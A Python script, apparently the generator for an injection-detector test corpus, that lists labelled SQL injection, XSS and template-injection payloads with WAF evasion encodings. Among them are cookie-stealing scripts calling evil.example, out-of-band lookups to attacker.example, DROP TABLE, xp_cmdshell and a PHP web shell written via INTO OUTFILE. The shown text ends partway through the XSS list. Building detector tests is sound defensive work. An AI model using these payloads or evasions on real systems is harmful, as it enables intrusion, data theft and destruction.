#!/usr/bin/env python3
"""Deterministic generator for the QuantumVault injection-detector corpus.

Writes, next to this file:
  attacks.jsonl  labelled attack requests (sqli, xss, traversal, cmdi, crlf, php, java, rfi,
                 nosqli, ssrf)
  benign.jsonl   benign requests that naive WAF rules tend to flag

Python 3 standard library only.  Fixed seed: rerunning produces byte-identical files.
After writing, the files are read back and checked (parse, unique ids, minimum counts,
wire validity, no attack payload verbatim inside a benign request); a failed check
exits non-zero.  Counts are printed and the counts section of README.md is refreshed.

Layout of this file:
  1. wire helpers and evasion transforms
  2. attack payload lists, one block per class (base payloads, hand-written evasions,
     already-encoded wire forms, and which bases get which systematic transforms)
  3. attack placement (where in the request a payload goes)
  4. benign value lists and benign placement
  5. assembly, output, checks

To add a case: append to the right list below and rerun
    python3 tests/corpus/generate.py
"""

import base64
import codecs
import collections
import gzip
import html
import json
import os
import random
import re
import string
import struct
import sys
import unicodedata
import urllib.parse
import uuid
import xml.parsers.expat
import zlib

SEED = 20240917
HERE = os.path.dirname(os.path.abspath(__file__))

CLASSES = ("sqli", "xss", "traversal", "cmdi", "crlf", "php", "java", "rfi", "nosqli", "ssrf")
LOCATIONS = ("query", "query_name", "path", "json", "form", "multipart", "xml",
             "header", "user_agent", "referer", "cookie")
METHODS = ("GET", "POST", "PUT", "PATCH", "DELETE")
MINIMUMS = {"sqli": 250, "xss": 250, "traversal": 200, "cmdi": 250, "crlf": 60,
            "php": 60, "java": 60, "rfi": 60, "nosqli": 60, "ssrf": 60}
MIN_ATTACKS = 1700
MIN_BENIGN = 3000
# Every class must also appear at least this often in the xml location and, together, in the
# header-like locations (header, user_agent, referer).
MIN_XML_PER_CLASS = 8
MIN_HEADERISH_PER_CLASS = 12
# How many attack requests to produce per class (each case is placed at least once,
# then cases are placed again in other locations until the target is reached).
TARGETS = {"sqli": 370, "xss": 390, "traversal": 300, "cmdi": 410, "crlf": 90,
           "php": 185, "java": 175, "rfi": 125, "nosqli": 135, "ssrf": 200}

# ---------------------------------------------------------------------------
# 1. Wire helpers and transforms
# ---------------------------------------------------------------------------

UNRESERVED = set(string.ascii_letters + string.digits + "-._~")
SUB_DELIMS = set("!$&'()*+,;=")
PATH_CHARS = UNRESERVED | SUB_DELIMS | set(":@/%")
QUERY_CHARS = PATH_CHARS | set("?")
COOKIE_BAD = set(' ;,"\\')


def pct(s, safe=""):
    """Percent-encode (UTF-8) everything except unreserved and `safe`."""
    return urllib.parse.quote(s, safe=safe)


def pct_plus(s):
    """Browser form style: spaces as '+'."""
    return urllib.parse.quote_plus(s, safe="")


def header_safe(s):
    """A header value we can send as-is: printable ASCII or HTAB, no CR/LF/NUL."""
    return all(c == "\t" or 0x20 <= ord(c) < 0x7F for c in s) and s == s.strip()


def cookie_value(s):
    """Encode a cookie value the way apps do (encodeURIComponent-ish, keep cookie-octets)."""
    return pct(s, safe="!#$&'()*+-./:<=>?@[]^_`{|}~")


def enc_all(s, _rng=None):
    """Percent-encode every byte, letters included."""
    return "".join("%%%02X" % b for b in s.encode("utf-8"))


def enc_std(s, _rng=None):
    return pct(s)


def enc_double(s, _rng=None):
    return pct(pct(s))


def enc_triple(s, _rng=None):
    return pct(pct(pct(s)))


def enc_lowerhex(s, _rng=None):
    return re.sub(r"%[0-9A-F]{2}", lambda m: m.group(0).lower(), pct(s))


def ws_raw(alt, keep="'()*,=!-"):
    """Replace spaces by `alt` (a raw wire token); encode the rest, keeping `keep` raw."""
    def f(s, _rng=None):
        return "".join(alt if c == " " else pct(c, safe=keep) for c in s)
    return f


def sep_raw(old, new):
    """Replace a shell separator by a raw encoded one, encode the rest."""
    def f(s, _rng=None):
        return new.join(pct(part, safe="'()*,=!-/") for part in s.split(old))
    return f


def mixcase(s, rng):
    out = "".join(c.upper() if rng.random() < 0.5 else c.lower() for c in s)
    if out == s:  # make sure something changed
        out = s.swapcase()
    return out


def comments_for_spaces(s, _rng=None):
    return s.replace(" ", "/**/")


def ifs_for_spaces(s, _rng=None):
    return s.strip().replace(" ", "${IFS}")


def fullwidth(s, only=None):
    """Map ASCII to full-width forms (U+FF01..U+FF5E); space to U+3000 when only is None."""
    out = []
    for c in s:
        if only is not None and c not in only:
            out.append(c)
        elif c == " ":
            out.append("\u3000")
        elif 0x21 <= ord(c) <= 0x7E:
            out.append(chr(ord(c) + 0xFEE0))
        else:
            out.append(c)
    return "".join(out)


def fw_all(s, _rng=None):
    return fullwidth(s)


def fw_brackets(s, _rng=None):
    return fullwidth(s, only="<>")


def fw_dots_slashes(s, _rng=None):
    return fullwidth(s, only="./\\")


def fw_punct(s, _rng=None):
    return fullwidth(s, only=";|&`$()'=<>")


def html_named(s, _rng=None):
    return (s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
            .replace('"', "&quot;").replace("'", "&#39;"))


def html_dec(s, _rng=None):
    return "".join("&#%d;" % ord(c) if c in "<>\"'()=:/" else c for c in s)


def html_hex(s, _rng=None):
    return "".join("&#x%x;" % ord(c) if c in "<>\"'()=:/" else c for c in s)


def null_after_lt(s, _rng=None):
    return pct(s, safe="").replace("%3C", "%3C%00", 1)


def caret_split(s, _rng=None):
    """cmd.exe ignores '^' between letters: who^am^i."""
    return re.sub(r"([a-z])(?=[a-z])", lambda m: m.group(1) + ("^" if m.start() % 2 else ""), s)


def identity(s, _rng=None):
    return s


def full_decode(s):
    """Repeatedly percent-decode (for the verbatim check of raw cases)."""
    for _ in range(4):
        d = urllib.parse.unquote(s, errors="replace")
        if d == s:
            break
        s = d
    return s


class Case:
    """One attack payload before placement.

    text  -- the payload: a decoded value (raw=False, encoded per location on placement)
             or an already wire-encoded string (raw=True, inserted verbatim).
    base  -- the decoded payload (for the verbatim-in-benign check).
    locs  -- restrict placement to these locations (None: any compatible one).  Besides the
             LOCATIONS, a few internal placements exist for whole-structure cases (see
             SPECIAL_LOCS): "path_abs" (the whole request target), "qs"/"form_qs" (a whole
             wire-encoded query string or form body), "ctype" (the Content-Type header),
             "xml_doc"/"mp_xml" (a whole XML document as body or uploaded file),
             "xml_xxe"/"mp_svg" (an XXE DOCTYPE around an XML body or an uploaded SVG).
    jesc  -- characters to write as \\uXXXX escapes in a JSON body (implies json only).
    xesc  -- characters to write as numeric character references in an XML body (xml only).
    obj   -- a JSON value (dict/list) placed as-is into a JSON body instead of a string.
    ext   -- for "xml_xxe": an external DTD id ('SYSTEM "..."') for the DOCTYPE, or "".
    ref   -- for "xml_xxe": the markup placed in the element text (e.g. "&xxe;").
    label -- for "qs": the location label of a whole query string (query or query_name).
    """

    __slots__ = ("cls", "text", "note", "raw", "locs", "jesc", "base", "xesc", "obj", "ext", "ref", "label")

    def __init__(self, cls, text, note, raw=False, locs=None, jesc="", base=None, xesc="", obj=None,
                 ext="", ref="", label=None):
        self.cls, self.text, self.note, self.raw = cls, text, note, raw
        self.locs, self.jesc, self.xesc, self.obj = locs, jesc, xesc, obj
        self.ext, self.ref, self.label = ext, ref, label
        self.base = base if base is not None else (full_decode(text) if raw else text)


# ---------------------------------------------------------------------------
# 2. Attack payloads
# ---------------------------------------------------------------------------
# Each class: GROUPS (note, [plain payloads]), EVASIONS [(plain payload, note)],
# RAW [(wire-encoded payload, note)], TRANSFORMS [(note, fn, kind, [source payloads])]
# where kind is "raw" (fn returns wire form) or "plain" (fn returns a decoded value)
# or "json" (plain value, written with \\u escapes in a JSON body).

# ----- SQL injection -------------------------------------------------------
SQLI_GROUPS = [
    ("tautology", [
        "' OR '1'='1", "' OR '1'='1' --", "' OR 1=1--", "1 or 1=1--", "1 OR 1=1",
        '" OR ""="', "') OR ('1'='1", "1) OR (1=1", "' OR 'a'='a", "' OR 1=1 LIMIT 1--",
        "' OR TRUE--", "') or true--", "' OR 'x' LIKE 'x", "1' or '1'='1' /*", "' OR 2>1--",
        "x' OR 1=1 OR 'x'='y", "alice@example.com' OR '1'='1", "' or ''='", "1 OR 'abc'='abc'",
        "-1 OR 1=1#", "'||'1'='1",
    ]),
    ("auth bypass, comment truncation", [
        "admin'--", "admin' #", "admin'/*", "admin' or '1'='1'--", "' or 1=1 -- -",
        "admin')--", "administrator'-- -",
    ]),
    ("UNION SELECT", [
        "' UNION SELECT NULL,NULL,NULL--", "' UNION SELECT username, password FROM users--",
        "1 UNION ALL SELECT 1,@@version,3--",
        "-1 UNION SELECT 1,table_name,3 FROM information_schema.tables--",
        "' UNION SELECT column_name FROM information_schema.columns WHERE table_name='users'--",
        "0 UNION SELECT 1,group_concat(schema_name),3 FROM information_schema.schemata",
        "' UNION SELECT load_file('/etc/passwd')--",
        "-1' UNION SELECT 1,2,'<?php system($_GET[c]); ?>' INTO OUTFILE '/var/www/html/s.php'--",
        "' UNION SELECT sqlite_version()--", "' UNION SELECT name, sql FROM sqlite_master--",
        "1 UNION SELECT banner FROM v$version--", "-1'UNION(SELECT(1),(2),(3))--",
    ]),
    ("column enumeration ORDER BY", ["1' ORDER BY 3--", "1 ORDER BY 5--", "' ORDER BY 1,2,3,4--"]),
    ("stacked query", [
        "1; DROP TABLE users--", "'; DROP TABLE users; --", "1; DELETE FROM orders WHERE 1=1--",
        "'; INSERT INTO users (name, role) VALUES ('eve','admin');--",
        "'; UPDATE users SET role='admin' WHERE name='eve';--",
        "1; EXEC xp_cmdshell('whoami')--", "'; EXEC master..xp_cmdshell 'ping 10.0.0.1'--",
        "1; SHUTDOWN--", "'; TRUNCATE TABLE audit_log;--", "1;SELECT * FROM users",
        "'; CREATE USER eve IDENTIFIED BY 'x';--", "1'; COPY (SELECT '') TO PROGRAM 'id'--",
    ]),
    ("time-based blind", [
        "' AND SLEEP(5)--", "1 AND SLEEP(5)", "' OR IF(1=1,SLEEP(5),0)--", "1' OR sleep(5)#",
        '" or sleep(5)="', "1; SELECT pg_sleep(5)--", "' || pg_sleep(5)--",
        "1 AND 1=(SELECT 1 FROM pg_sleep(5))", "'; WAITFOR DELAY '0:0:5'--",
        "1); WAITFOR DELAY '00:00:05'--", "' AND BENCHMARK(5000000,MD5(1))--",
        "1 AND (SELECT * FROM (SELECT(SLEEP(5)))a)",
        "1 AND 1=DBMS_PIPE.RECEIVE_MESSAGE(CHR(65),5)", "1 RLIKE SLEEP(5)",
    ]),
    ("error-based", [
        "' AND extractvalue(1,concat(0x7e,(SELECT version())))--",
        "' AND updatexml(1,concat(0x7e,user()),1)--",
        "1 AND extractvalue(rand(),concat(0x3a,database()))",
        "1 AND 1=CONVERT(int,(SELECT @@version))--",
        "' AND 1=CAST((SELECT current_user) AS int)--",
        "1' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x "
        "FROM information_schema.tables GROUP BY x)a)--",
        "' AND 1=ctxsys.drithsx.sn(1,(SELECT user FROM dual))--",
        "1 AND exp(~(SELECT * FROM (SELECT user())x))",
        "' AND GTID_SUBSET(CONCAT(0x7e,(SELECT version())),1)--",
    ]),
    ("boolean-based blind", [
        "' AND 1=1--", "' AND 1=2--",
        "1 AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64",
        "1' AND '1'='1", "1 AND (SELECT 'x' FROM dual)='x'",
        "' AND EXISTS(SELECT * FROM users WHERE username='admin')--", "' HAVING 1=1--",
        "' GROUP BY id HAVING 1=1--", "1 AND LENGTH(database())>3", "'||(SELECT version())||'",
        "1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))",
        "' AND SUBSTR(@@version,1,1)='5", "' OR 1 IN (SELECT @@version)--",
    ]),
]

SQLI_EVASIONS = [
    ("' UN/**/ION SEL/**/ECT username,password FROM users--", "comment-split keywords UN/**/ION"),
    ("1/**/UNION/**/SELECT/**/1,2,3--", "inline comments as whitespace"),
    ("'/**/OR/**/'1'='1", "inline comments as whitespace"),
    ("'/*!50000UNION*/ /*!50000SELECT*/ 1,2,3--", "MySQL versioned comments /*!50000SELECT*/"),
    ("1 /*!50000SELECT*/ user()", "MySQL versioned comment"),
    ("' /*!OR*/ 1=1--", "MySQL executable comment"),
    ("1'/**/or/**/1=1#", "inline comments, hash comment"),
    ("1' /*!12345UNION*/ /*!12345SELECT*/ 1,2--", "MySQL versioned comments"),
    ("SEL/*x*/ECT password FR/*x*/OM users", "comment-split keywords"),
    ("' OR 'ad'||'min'='admin", "string concatenation"),
    ("' OR username=CHAR(97,100,109,105,110)--", "CHAR() obfuscation"),
    ("' OR username=0x61646d696e--", "hex literal"),
    ("1 UnIoN sElEcT 1,2,3--", "mixed case"),
    ("' oR '1'='1", "mixed case"),
    ("1 uNiOn/**/aLl/**/sElEcT null,null--", "mixed case + comments"),
    ("1\tOR\t1=1", "tab as whitespace"),
    ("1\nUNION\nSELECT\n1,2,3", "newline as whitespace"),
    ("'\u00a0OR\u00a0'1'='1", "NBSP as whitespace (NFKC)"),
    ("' OR 1=1\x00", "trailing null byte"),
    ("' OR 1=1;\x00--", "null byte before comment"),
    ("\uff07 \uff2f\uff32 \uff07\uff11\uff07\uff1d\uff07\uff11", "full-width tautology (NFKC)"),
    ("1\uff07 UNION SELECT 1,2--", "full-width apostrophe U+FF07"),
    ("' OR 1=1 %23", "literal %23 as comment after decoding"),
    ("'/*foo*/OR/*bar*/1/**/=/**/1--", "comments around operators"),
]

SQLI_RAW = [
    ("'%20UNION%23foo%0ASELECT%201,2--", "hash comment + newline split"),
    ("1%20oR%201%3D1--", "URL-encoded, mixed case"),
    ("%27%09OR%091%3D1%23", "encoded quote, %09 whitespace"),
    ("1%0bOR%0b1=1", "%0b vertical tab whitespace"),
    ("%2527%2520OR%25201%253D1--", "double URL-encoding"),
    ("%00'%20OR%20'1'='1", "null byte prefix"),
    ("1+UNION+ALL+SELECT+NULL,NULL--", "'+' as whitespace"),
    ("'+or+'1'%3D'1", "'+' as whitespace"),
    ("1;DROP+TABLE+users--", "stacked query, '+' whitespace"),
    ("'%3B%20WAITFOR%20DELAY%20'0:0:5'--", "encoded semicolon"),
    ("1%20AND%20SLEEP%285%29", "encoded parentheses"),
]

_SQ_SRC = ["' OR '1'='1", "1 or 1=1--", "admin'--", "' UNION SELECT username, password FROM users--",
           "1; DROP TABLE users--", "' AND SLEEP(5)--", "'; WAITFOR DELAY '0:0:5'--",
           "' AND updatexml(1,concat(0x7e,user()),1)--", "' OR 1=1--", "1 AND SLEEP(5)",
           "1 UNION ALL SELECT 1,@@version,3--", "' AND BENCHMARK(5000000,MD5(1))--",
           "1; SELECT pg_sleep(5)--", "' AND extractvalue(1,concat(0x7e,(SELECT version())))--",
           "') OR ('1'='1", "'; DROP TABLE users; --"]

SQLI_TRANSFORMS = [
    ("full URL-encoding (every byte)", enc_all, "raw", _SQ_SRC[0:5]),
    ("double URL-encoding", enc_double, "raw", _SQ_SRC[3:10]),
    ("triple URL-encoding", enc_triple, "raw", _SQ_SRC[8:10]),
    ("lowercase-hex URL-encoding", enc_lowerhex, "raw", _SQ_SRC[10:13]),
    ("%09 tab as whitespace", ws_raw("%09"), "raw", _SQ_SRC[0:5]),
    ("%0a newline as whitespace", ws_raw("%0a"), "raw", _SQ_SRC[5:10]),
    ("%0c form feed as whitespace", ws_raw("%0c"), "raw", _SQ_SRC[10:12]),
    ("%0d%0a as whitespace", ws_raw("%0d%0a"), "raw", _SQ_SRC[12:14]),
    ("'+' as whitespace", ws_raw("+"), "raw", _SQ_SRC[8:14]),
    ("%a0 Latin-1 NBSP whitespace (invalid UTF-8)", ws_raw("%a0"), "raw", _SQ_SRC[0:1]),
    ("mixed case", mixcase, "plain", _SQ_SRC[2:9]),
    ("inline comments /**/ as whitespace", comments_for_spaces, "plain", _SQ_SRC[9:15]),
    ("full-width forms (NFKC)", fw_all, "plain", _SQ_SRC[0:3]),
    ("JSON \\u escaped quote", identity, "json", _SQ_SRC[0:4]),
]

# More SQL injection, aimed at form bodies, JSON values and XML text (where the held-out set
# found the rules weakest): tautologies in many spellings, UNION with NULL/column lists,
# stacked queries, time/boolean/error-based blind, out-of-band, per-DBMS specifics.
SQLI_GROUPS += [
    ("tautology, more spellings", [
        "' or 'a'='a", "' or 1=1#", "' or 1=1;--", "') or ('1'='1'--", '") or ("1"="1', '") or ("a"="a")--',
        "' or true--", "' or true#", "'||'1'='1'--", "' or 'x'='x'#", "1' or '1'='1'-- -", '" or 1=1--',
        '" or "a"="a', "' OR 1 --", "'='", "'or''='", "' or 1 like 1--", "1' or 1 in (1)--",
        "' or not false--", "' or 0x1=0x1--", "' or 2 between 1 and 3--", "' or username is not null--",
        "' || 1=1 --", "1' && '1'='1", "' or 'a' regexp 'a", "x') or 1=1 or ('x'='y", "') or true--",
        "1)) or ((1=1", "' or 3-2=1--", "' or 'abc'<>'xyz'--", "\\' or 1=1--", "%' or '%'='",
        "' or ascii('a')=97--", "1 or true", "' oR 7=7 aNd 'q'='q", "admin' or '1'='1'#",
    ]),
    ("auth bypass, more comment forms", [
        'admin" --', "admin' or 1=1#", "admin';--", "root'-- ", "admin'/**/--", "' or ''-'", "admin' and 1=1--",
        "admin'||''--", "guest' union select 'admin','x'--",
    ]),
    ("UNION SELECT, NULL and column lists", [
        "' UNION ALL SELECT NULL--", "' UNION ALL SELECT NULL,NULL,NULL,NULL,NULL--", "') UNION SELECT 1,2,3,4,5,6--",
        "' union select 1,user(),database(),version()--", "' UNION SELECT id,email,password_hash FROM customers--",
        "1 union distinct select 1,2,3", "-1 union select null,concat(user,0x3a,authentication_string),null from mysql.user--",
        "' union select table_name,null from all_tables--", "' union select name,null from sys.databases--",
        "' UNION SELECT usename,passwd FROM pg_shadow--", "' UNION SELECT tbl_name,sql FROM sqlite_master WHERE type='table'--",
        "1 UNION SELECT NULL,NULL FROM DUAL--", "0' union all select @@hostname,@@datadir-- -",
        "' union select 1,group_concat(username,':',password SEPARATOR '<br>') from users-- -",
        "99999 union select 1,2,3,4,5,6,7,8,9,10--", "' UNION SELECT CHAR(113,118,113),NULL--",
        "1') union all select null,null,null#", "') union select current_user,null,null--",
    ]),
    ("stacked query, more", [
        "'; exec sp_configure 'show advanced options',1; reconfigure;--", "'; EXEC sp_executesql N'SELECT 1'--",
        "1; select pg_read_file('/etc/passwd')--", "'; drop database shop;--", "1;update users set password='x'--",
        "'; ATTACH DATABASE '/var/www/html/x.php' AS p; CREATE TABLE p.t (c text);--",
        "'; ALTER TABLE users ADD COLUMN is_admin int DEFAULT 1;--", "1; GRANT ALL PRIVILEGES ON *.* TO 'eve'@'%';--",
        "'; select * into outfile '/tmp/dump.txt' from users;--", "');DELETE FROM sessions;--",
    ]),
    ("time-based blind, more", [
        "sleep(5)", "' and sleep(5) and '1'='1", "'XOR(if(now()=sysdate(),sleep(5),0))XOR'",
        "1' and (select 1 from (select sleep(5))x)-- -", "benchmark(10000000,md5(1))", "' or benchmark(10000000,sha1(1))#",
        "';select pg_sleep(5);--", "1) and 1=(select 1 from pg_sleep(5))--", "'||pg_sleep(5)||'",
        "1 waitfor delay '00:00:10'", "'); waitfor delay '0:0:5';--", "' and 1=dbms_pipe.receive_message(('a'),5)--",
        "' || dbms_pipe.receive_message('x',5) || '", "1 and 1=(select count(*) from all_users t1, all_users t2, all_users t3)",
        "' and randomblob(500000000)--", "1 and 1=like('ABCDEFG',upper(hex(randomblob(300000000))))",
        "if(1=1,sleep(5),0)", "(select*from(select(sleep(5)))a)", "1 and pg_sleep(5) is null", "0'or sleep(5)#",
        "1;waitfor delay '0:0:5'--", "(SELECT 1 FROM (SELECT SLEEP(5))x)",
    ]),
    ("boolean-based blind, more", [
        "' and 1=1 and ''='", "' and substring(version(),1,1)='8", "1 and substring((select password from users where id=1),1,1)='a'",
        "' and (select count(*) from users)>0--", "' and ascii(substr((select user from dual),1,1))>64--",
        "1 and mid(user(),1,1)='r'", "1' and left(database(),1)>'a", "1 AND 7788=7788", "1' AND 2341=2341 AND 'xYzA'='xYzA",
        "1 AND (SELECT CASE WHEN (1=1) THEN 1 ELSE 1/0 END)=1", "' and iif(1=1,1,1/0)=1--", "1 and 1=2 union select 1,2--",
        "1' and exists(select 1 from information_schema.tables)-- -", "' and length(password)>8 and '1'='1",
        "1 AND ORD(MID((SELECT IFNULL(CAST(username AS NCHAR),0x20) FROM users ORDER BY id LIMIT 0,1),1,1))>64",
        "' AND (SELECT SUBSTRING(table_name,1,1) FROM information_schema.tables LIMIT 1)='a'--",
    ]),
    ("error-based, more", [
        "' and 1=convert(int,@@version)--", "' and 1=cast(version() as int)--", "' and extractvalue(1,concat(0x5c,database()))--",
        "' or updatexml(null,concat(0x3a,(select user())),null)--",
        "' and (select 1 from(select count(*),concat((select database()),floor(rand(0)*2))x from information_schema.plugins group by x)a)--",
        "' AND 1=UTL_INADDR.GET_HOST_ADDRESS((SELECT user FROM dual))--", "' and json_keys((select convert((select database()) using utf8mb4)))--",
        "' AND geometrycollection((select * from(select * from(select user())a)b))--", "1 and cast(pg_read_file('/etc/passwd') as int)",
        "' and 1=(select 1/0)--", "' AND 1 = (SELECT TOP 1 name FROM sysobjects WHERE xtype='U')--",
    ]),
    ("out-of-band", [
        "' UNION SELECT load_file('\\\\\\\\x.attacker.example\\\\a')--", "'; exec master..xp_dirtree '\\\\attacker.example\\x'--",
        "' and utl_http.request('http://attacker.example/'||(select user from dual))=1--",
        "'; copy (select '') to program 'nslookup attacker.example'--",
        "1;select dblink_connect('host=attacker.example user=a password=b dbname=c')--",
        "' and (select load_file(concat('\\\\\\\\',version(),'.attacker.example\\\\a')))--",
        "' || (select extractvalue(xmltype('<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % x SYSTEM \"http://attacker.example/\">%x;]>'),'/l') from dual)--",
        "'; declare @h varchar(99); set @h=(select db_name()); exec('master..xp_fileexist ''\\\\'+@h+'.attacker.example\\x''')--",
        "' and (select UTL_INADDR.get_host_name('attacker.example') from dual) is not null--",
    ]),
    ("DBMS specifics (MSSQL/Oracle/Postgres/SQLite)", [
        "' + (select @@servername) + '", "' union select null,banner from v$version where rownum=1--",
        "' || (select chr(65)||chr(66) from dual) || '", "'::text||(select current_database())||'",
        "1 and 1=cast((select string_agg(usename,',') from pg_user) as int)", "' union select 1,sqlite_version(),3--",
        "1; exec('sel'+'ect 1')--", "'; exec xp_regread 'HKEY_LOCAL_MACHINE','SYSTEM\\CurrentControlSet','x'--",
        "' and 1=(select count(*) from sqlite_master)--", "1 and (select pg_ls_dir('.')) is not null",
        "'||(select name from v$database)||'", "' and 1=(select top 1 password from users)--",
    ]),
]

SQLI_EVASIONS += [
    ("' or/**/'1'/**/=/**/'1", "comments around tautology"),
    ("'/*!or*/1=1-- -", "MySQL executable comment, no spaces"),
    ("1'or(1)=(1)#", "parentheses instead of spaces"),
    ("'or(1=1)--", "parentheses instead of spaces"),
    ("1'||'1'='1'||'", "concatenation tautology"),
    ("'-''-'", "arithmetic on quotes"),
    ("' UNION%0bSELECT 1,2--", "literal %0b inside a decoded value"),
    ("1 unI/**/on seLe/**/ct 1,2", "mixed case, comment-split"),
    ("1 div 1 union select 1,2", "DIV operator before UNION"),
    ("'\tor\t'1'\t=\t'1", "tabs around tautology"),
    ("admin'\n--", "newline before comment"),
    ("' or\n1=1\n--", "newlines inside tautology"),
    ("1e0union select 1,2", "scientific-notation number glued to UNION"),
    ("\\N union select 1,2", "MySQL \\N null literal glued to UNION"),
    ("' union select/*x*/null,null--", "comment after SELECT"),
    ("' oR ''=''--", "mixed case empty-string tautology"),
    ("1' AnD SlEeP(5)#", "mixed case sleep"),
    ("';WAITFOR\tDELAY'0:0:5'--", "tab inside WAITFOR DELAY"),
]

SQLI_RAW += [
    ("'%20or%20'a'%3D'a", "URL-encoded tautology"),
    ("%27%20or%201%3D1%23", "URL-encoded tautology, hash comment"),
    ("admin%27--", "URL-encoded auth bypass"),
    ("admin%27%23", "URL-encoded hash comment"),
    ("%22)%20or%20(%221%22%3D%221", "URL-encoded double-quote tautology"),
    ("1%27%20union%20all%20select%20null%2Cnull%2Cnull--%20-", "URL-encoded UNION NULLs"),
    ("1%27%09and%09sleep(5)%23", "tabs, sleep"),
    ("1%2F**%2Funion%2F**%2Fselect%2F**%2F1%2C2", "encoded comments"),
    ("%2527%2520or%25201%253D1%2523", "double-encoded tautology"),
    ("1'%0Aor%0A1=1--", "%0A around OR"),
    ("'+or+sleep(5)%23", "form-style '+' spaces"),
    ("-1'+union+select+1,2,3--+-", "form-style '+' spaces"),
    ("%bf%27%20or%201%3D1--", "GBK multibyte swallowing the backslash (%bf%27)"),
    ("%u0027%20or%201%3D1--", "IIS %u0027 apostrophe (non-standard)"),
    ("1%20AnD%201%3D1", "mixed case, encoded"),
]

_SQ_SRC2 = ["' or 'a'='a", "' or 1=1#", "admin' or 1=1#", '") or ("1"="1', "' or true--",
            "' UNION ALL SELECT NULL,NULL,NULL,NULL,NULL--", "' union select 1,user(),database(),version()--",
            "' and sleep(5) and '1'='1", "benchmark(10000000,md5(1))", "';select pg_sleep(5);--",
            "'); waitfor delay '0:0:5';--", "' and 1=convert(int,@@version)--",
            "1 AND 7788=7788", "' and substring(version(),1,1)='8", "' or 'x'='x'#"]

SQLI_TRANSFORMS += [
    ("'+' as whitespace", ws_raw("+"), "raw", _SQ_SRC2[8:12]),
    ("JSON \\u escaped quote", identity, "json", _SQ_SRC2[0:6]),
    ("XML character references for quotes", identity, "xml:'\"", _SQ_SRC[0:3] + _SQ_SRC2[0:5]),
]

# ----- XSS and template injection ------------------------------------------
XSS_GROUPS = [
    ("script tag", [
        "<script>alert(1)</script>", "<script>alert(document.cookie)</script>",
        "<script src=https://evil.example/x.js></script>", '"><script>alert(1)</script>',
        "'><script>alert(String.fromCharCode(88,83,83))</script>",
        "</title><script>alert(1)</script>", "</script><script>alert(1)</script>",
        "<script>fetch('https://evil.example/?c='+document.cookie)</script>",
        "<script>document.location='https://evil.example/?'+document.cookie</script>",
        "<script>new Image().src='//evil.example/l?'+localStorage.token</script>",
    ]),
    ("event handler", [
        "<img src=x onerror=alert(1)>", "<img src=\"x\" onerror=\"alert('xss')\">",
        "<body onload=alert(1)>", "<input autofocus onfocus=alert(1)>",
        "<details open ontoggle=alert(1)>", "<marquee onstart=alert(1)>",
        '<div onmouseover="alert(1)">hover</div>', '<video><source onerror="alert(1)">',
        "<audio src=x onerror=alert(1)>", '" onmouseover="alert(1)', "' autofocus onfocus='alert(1)",
        '"><img src=x onerror=prompt(1)>', "<x onclick=alert(1)>click",
        "<isindex type=image src=1 onerror=alert(1)>", "<img src=x:alert(alt) onerror=eval(src) alt=0>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=confirm(1)>",
        "<keygen autofocus onfocus=alert(1)>", "<object onerror=alert(1)>",
    ]),
    ("SVG", [
        "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
        "<svg><set attributeName=onmouseover to=alert(1)>",
    ]),
    ("javascript: URL", [
        '<iframe src="javascript:alert(1)"></iframe>', '<a href="javascript:alert(1)">click</a>',
        "javascript:alert(document.domain)", "JaVaScRiPt:alert(1)", "javascript:%61lert(1)",
        "<embed src=javascript:alert(1)>", '<form action="javascript:alert(1)"><input type=submit>',
        "<button formaction=javascript:alert(1)>x</button>",
        '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
        '<body background="javascript:alert(1)">', "<IMG SRC=JaVaScRiPt:alert('XSS')>",
        '<div style="background:url(javascript:alert(1))">', 'vbscript:msgbox("xss")',
        "javascript://comment%0aalert(1)",
    ]),
    ("data: URI", [
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        '<iframe src="data:text/html,<script>alert(1)</script>">',
        '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
        "DATA:text/html,<script>alert(1)</script>",
        "data:text/html;charset=utf-8,%3Cscript%3Ealert(1)%3C/script%3E",
        '<a href="data:text/html,<svg onload=alert(1)>">x</a>',
    ]),
    ("dangerous tag", [
        '<iframe srcdoc="<script>alert(1)</script>">', "<link rel=import href=https://evil.example/x.html>",
        '<base href="https://evil.example/">', "<embed src=https://evil.example/x.swf>",
        "<object data=https://evil.example/x.svg type=image/svg+xml></object>",
    ]),
    ("JS string breakout", ["';alert(1);//", '";alert(1);//', "'-alert(1)-'", "\\';alert(1);//"]),
    ("template injection (SSTI)", [
        "{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "*{7*7}", "${{7*7}}",
        "{{constructor.constructor('alert(1)')()}}", "{{config.items()}}",
        "{{''.__class__.__mro__[1].__subclasses__()}}",
        '<%= system("id") %>',
        "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
        "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
        "{{self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read()}}",
        "[[${7*7}]]", "@(1+2)", "{php}echo `id`;{/php}", "{{_self.env.registerUndefinedFilterCallback('exec')}}",
    ]),
]

XSS_EVASIONS = [
    ("<ScRiPt>alert(1)</sCrIpT>", "mixed-case tag"),
    ("<scr<script>ipt>alert(1)</scr</script>ipt>", "nested tag against single-pass stripping"),
    ("<img src=x onerror=alert`1`>", "backtick call"),
    ("<img/src=x/onerror=alert(1)>", "slash separators"),
    ("<img\nsrc=x\nonerror=alert(1)>", "newlines inside tag"),
    ("<svg\tonload=alert(1)>", "tab inside tag"),
    ('<a href="java\tscript:alert(1)">x</a>', "tab inside javascript: scheme"),
    ('<a href="java\nscript:alert(1)">x</a>', "newline inside javascript: scheme"),
